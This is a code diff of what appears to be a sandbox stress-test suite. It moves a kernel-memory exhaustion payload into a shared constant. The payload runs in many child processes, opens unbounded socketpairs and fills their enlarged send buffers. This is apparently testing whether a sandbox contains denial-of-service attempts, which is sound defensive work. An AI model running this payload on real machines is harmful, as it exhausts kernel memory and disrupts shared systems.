@@ -7,6 +7,25 @@ from tools.attacks.attack import FULL, Desk, attack
 from tools.attacks.handing import RIGHT_IOU, RIGHT_NMS, hand_in
 
 FAMILY = "exhaustion"
+FULL_SOCKETS = """
+import os, socket, time
+
+def fill():
+    held = []
+    try:
+        while True:
+            held.append(socket.socketpair())
+            for end in held[-1]:
+                end.setblocking(False)
+                end.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 2**24)
+                try:
+                    while end.send(bytes(2**16)):
+                        pass
+                except BlockingIOError:
+                    pass
+    except OSError:
+        time.sleep(60)
+"""
 HOLD = "\nimport time\ntime.sleep(3)\n"  # longer than the watch ever rests
 
 
@@ -157,26 +176,7 @@ print(libc.unshare(0x10020000), libc.mount(b"none", b"/tmp", b"tmpfs", 0, b"size
 @attack(family=FAMILY, deserved=FULL, boxed=True)
 def memory_in_the_kernel(desk: Desk) -> None:
     """Full pipes and sockets in many processes: memory that the kernel holds for them."""
-    hog = """
-import os, socket, time
-
-def fill():
-    held = []
-    try:
-        while True:
-            held.append(socket.socketpair())
-            for end in held[-1]:
-                end.setblocking(False)
-                end.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 2**24)
-                try:
-                    while True:
-                        end.send(b"1" * 2**16)
-                except BlockingIOError:
-                    pass
-    except OSError:
-        time.sleep(20)
-"""
-    exhaust(desk, hog + in_children(60) + HOLD)
+    exhaust(desk, FULL_SOCKETS + in_children(60) + HOLD)
 
 
 @attack(family=FAMILY, deserved=FULL, boxed=True)
